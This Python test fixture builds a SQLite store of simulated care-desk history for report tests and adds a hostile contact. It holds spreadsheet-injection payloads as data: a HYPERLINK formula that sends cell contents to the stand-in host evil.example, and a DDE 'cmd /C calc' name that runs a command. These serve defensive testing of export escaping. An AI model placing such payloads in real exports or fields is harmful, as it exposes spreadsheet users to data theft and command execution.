"""A real SQLite store of simulated history for the report tests: two days of a care desk (the
simulated team's handled interactions and their transcripts), plus a customer whose words a
spreadsheet would run."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from pathlib import Path

from workbench.domain import Channel, Contact, EntryKind, Interaction, TranscriptEntry
from workbench.store import Store

END = datetime(2026, 12, 8, tzinfo=UTC)
"""The history ends at midnight UTC on Tuesday 8 December 2026."""
HOSTILE_TEXT = '=HYPERLINK("http://evil.example/?"&A1,"click") <b>bold</b>'
HOSTILE_NAME = "=cmd|' /C calc'!A0"
HOSTILE_TWEET = "1999999999999999999"
"""A tweet id of 19 digits: Excel would keep 15 of them."""


def make_store(folder: Path) -> str:
    """A store of two days of history in ``folder``; its URL."""
    from workbench.simulate.history import fill_history

    url = f"sqlite:///{folder / 'week.db'}"
    store = Store(url)
    try:
        fill_history(store, timedelta(days=2), per_day=150, now=END)
        at = END - timedelta(hours=3)
        contact = Contact("66", "mallory", HOSTILE_NAME)
        it = Interaction(
            id="019afa00000000000000000000hostile"[:32],
            channel=Channel.MENTION,
            contact_id="66",
            tweet_id=HOSTILE_TWEET,
            arrived_at=at,
        )
        store.add_interaction(
            it, contact, TranscriptEntry(it.id, at, EntryKind.INBOUND, "mallory", HOSTILE_TEXT)
        )
    finally:
        store.close()
    return url
